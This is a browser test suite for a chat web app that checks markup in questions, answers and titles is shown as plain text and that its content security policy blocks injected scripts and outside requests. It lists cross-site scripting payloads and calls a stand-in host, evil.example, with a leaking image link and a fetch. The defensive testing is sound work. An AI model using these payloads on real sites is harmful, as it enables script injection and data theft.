import { expect, it } from "vitest"
import { startBrowser } from "../support/browser.ts"
import { describeChat } from "./support/chat-suite.ts"
import { FakeApi } from "./support/fake-api.ts"
import { answers, ask, visit } from "./support/visit.ts"

const attacks = [
  `<img src=x onerror="window.hacked=1">`,
  "<script>window.hacked=1</script>",
  "[click](javascript:window.hacked=1)",
  "[click](data:text/html,<script>window.hacked=1</script>)",
  "![pixel](https://evil.example/?leak)",
  "`</code><svg onload=window.hacked=1>`",
  "```html\n</pre><iframe srcdoc='<script>parent.hacked=1</script>'>\n```",
  `[x](https://good.example/"onmouseover="window.hacked=1)`,
]

describeChat("safety", suite => {
  it("shows markup in questions, answers and titles as text", async () => {
    await using tab = await suite.visit()
    suite.api.plan({ kind: "answer", text: attacks.join("\n\n") })
    await ask(tab.page, attacks[0] ?? "")
    await tab.page.getByRole("button", { name: "Copy answer" }).waitFor()
    await tab.page.reload()
    await tab.page.getByRole("button", { name: "Copy answer" }).waitFor()
    expect(await answers(tab.page).first().textContent()).toContain(attacks[1])
    expect(await tab.page.locator(".entry").textContent()).toContain("<img src=x")
    expect(await tab.page.locator("#log img, #log iframe, #log script, nav img").count()).toBe(0)
    const links = await answers(tab.page)
      .locator("a")
      .evaluateAll(found => found.map(link => new URL((link as HTMLAnchorElement).href).protocol))
    expect(new Set(links)).toEqual(new Set(["https:"]))
    expect(await answers(tab.page).locator("[onmouseover], [onerror], [onload]").count()).toBe(0)
    expect(await tab.page.evaluate("window.hacked")).toBeUndefined()
    expect(tab.complaints).toEqual([])
    expect(tab.foreign).toEqual([])
  })

  it("breaks no rule of its own content security policy, and asks nobody but its server", async () => {
    await using tab = await suite.visit()
    await ask(tab.page, "Hello")
    await tab.page.getByRole("button", { name: "Copy answer" }).waitFor()
    await tab.page.reload()
    await answers(tab.page).first().waitFor()
    expect(tab.complaints).toEqual([])
    expect(tab.foreign).toEqual([])
  })

  it("is protected by its policy even where the page had a hole", async () => {
    await using tab = await suite.visit()
    const outcome = await tab.page.evaluate(async () => {
      const tried: string[] = []
      try {
        document.body.insertAdjacentHTML("beforeend", "<p>in</p>")
        tried.push("markup")
      } catch {}
      const script = document.createElement("script")
      try {
        script.textContent = "window.hacked = 1"
        document.body.append(script)
      } catch {}
      await fetch("https://evil.example/").then(
        () => tried.push("fetch"),
        () => {},
      )
      return tried
    })
    expect(outcome).toEqual([])
    expect(await tab.page.evaluate("window.hacked")).toBeUndefined()
    expect(tab.complaints.join("\n")).toContain("connect-src 'self'")
    expect(tab.complaints.join("\n")).toContain("TrustedHTML")
  })

  it("takes any text as the app's name", async () => {
    const api = await FakeApi.start({ name: `<b>"A&B"</b>{{modules}}`, environment: "<i>staging" })
    const browser = await startBrowser()
    try {
      await using tab = await visit(browser, api)
      expect(await tab.page.title()).toBe(`<b>"A&B"</b>{{modules}}`)
      expect(await tab.page.locator("h1").textContent()).toBe(`<b>"A&B"</b>{{modules}}`)
      expect(await tab.page.locator(".environment").textContent()).toBe("<i>staging")
      expect(await tab.page.locator("h1 b, .environment i").count()).toBe(0)
    } finally {
      await browser.close()
      await api.close()
    }
  })
})
